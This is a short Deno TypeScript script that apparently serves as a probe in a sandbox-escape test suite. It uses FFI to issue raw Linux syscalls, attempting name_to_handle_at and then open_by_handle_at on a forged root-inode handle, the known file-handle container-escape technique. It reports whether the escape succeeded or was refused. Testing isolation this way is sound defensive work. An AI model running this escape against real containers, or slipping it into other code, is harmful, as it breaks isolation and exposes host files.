// Opens files by handles, the old way out of containers.
const at = JSON.parse(Deno.env.get("ATTACK")!);
const got: string[] = [];
const refused: string[] = [];
async function attempt(what: string, act: () => unknown) {
  try {
    (await act() ? got : refused).push(what);
  } catch (error) {
    refused.push(`${what}: ${(error as any).code ?? (error as Error).name}`);
  }
}
const number = ["i64", "i64", "i64", "i64", "i64", "i64", "i64"] as const;
let symbols: any; // once: a child must not load anything
const libc = () => symbols ??= Deno.dlopen("libc.so.6", { syscall: { parameters: number, result: "i64" } }).symbols;
function call(nr: number, ...words: (number | bigint | Uint8Array)[]) {
  const value = (w: any) => w instanceof Uint8Array ? Deno.UnsafePointer.value(Deno.UnsafePointer.of(w)) : BigInt(w ?? 0);
  const [a, b, c, d, e, f] = [0, 1, 2, 3, 4, 5].map((i) => value(words[i]));
  return Number(libc().syscall(BigInt(nr), a, b, c, d, e, f));
}
const text = (s: string) => new TextEncoder().encode(s + "\0");

Deno.serve(async () => {
  const handle = new Uint8Array(136);
  new DataView(handle.buffer).setUint32(0, 128, true);
  await attempt("name_to_handle_at", () => call(303, -100, text("/src"), handle, new Uint8Array(4), 0) === 0);
  const root = new Uint8Array(16);
  new DataView(root.buffer).setUint32(0, 8, true);
  new DataView(root.buffer).setUint32(4, 1, true);
  new DataView(root.buffer).setUint32(8, 2, true); // inode 2
  await attempt("open_by_handle_at", () => call(304, call(257, -100, text("/src"), 0), root, 0) >= 0);
  return Response.json({
    attack: at.name,
    escaped: got.length > 0,
    detail: got.length > 0 ? `got ${got.join(", ")}` : `refused: ${refused.join(", ")}`,
  });
});
